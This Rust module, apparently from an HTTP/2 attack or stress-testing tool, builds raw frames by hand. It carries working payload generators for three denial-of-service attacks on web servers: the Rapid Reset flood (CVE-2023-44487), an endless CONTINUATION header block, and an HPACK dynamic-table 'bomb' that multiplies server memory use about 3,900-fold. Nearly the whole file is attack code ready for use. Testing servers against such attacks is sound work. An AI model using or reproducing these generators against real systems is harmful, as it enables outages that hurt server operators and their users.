//! Frames of HTTP/2 as attackers write them (RFC 9113 §4, RFC 7541): by hand, without Huffman. Knows no reading.

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW_SIZE: u16 = 4;
const CANCEL: u32 = 8;

/// Largest payload that every server takes.
const FRAME_BYTES: usize = 16_384;
/// Pairs of request and reset in one wave.
const RESETS_PER_WAVE: u32 = 50;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame is short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// What a connection begins with; its streams may carry so much of a reply.
pub(super) fn hello(window_bytes: u32) -> Vec<u8> {
    let setting = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &window_bytes.to_be_bytes()].concat();
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(SETTINGS, 0, 0, &setting)[..]].concat()
}

/// The fields of a GET: the static table's numbers for `GET` and `http`, then a path and an authority (RFC 7541 Appendix A).
fn fields(path: &str) -> Vec<u8> {
    let length = u8::try_from(path.len()).expect("a short path");
    [&[0x82, 0x86, 0x04, length][..], path.as_bytes(), &[0x01, 1, b'a']].concat()
}

/// A GET.
pub(super) fn get(stream: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields(path))
}

/// Requests that are taken back at once (CVE-2023-44487).
pub(super) fn resets(wave: u32) -> Vec<u8> {
    let first = wave * RESETS_PER_WAVE;
    let streams = (first..first + RESETS_PER_WAVE).map(|number| 2 * number + 1);
    streams
        .flat_map(|stream| [get(stream, "/"), frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat())
        .collect()
}

/// A block of fields that never ends.
pub(super) fn continuations(wave: u32) -> Vec<u8> {
    if wave == 0 {
        return frame(HEADERS, END_STREAM, 1, &fields("/"));
    }
    // Literals of no use: name `x`, value `y`.
    frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y'].repeat(FRAME_BYTES / 5))
}

/// One large field, then named again and again: a byte on the wire for each 3,900 in memory.
pub(super) fn table_bombs(wave: u32) -> Vec<u8> {
    // A name of one byte; a length of 3,900 as RFC 7541 §5.1 writes it: 127 + 61 + 29 × 128.
    let large = [&[0x40, 1, b'x', 0x7f, 61 | 0x80, 29][..], &[b'a'; 3_900]].concat();
    // 0xbe is the newest entry of the dynamic table.
    let block = [fields("/"), large, vec![0xbe; 10_000]].concat();
    frame(HEADERS, END_HEADERS | END_STREAM, 2 * wave + 1, &block)
}
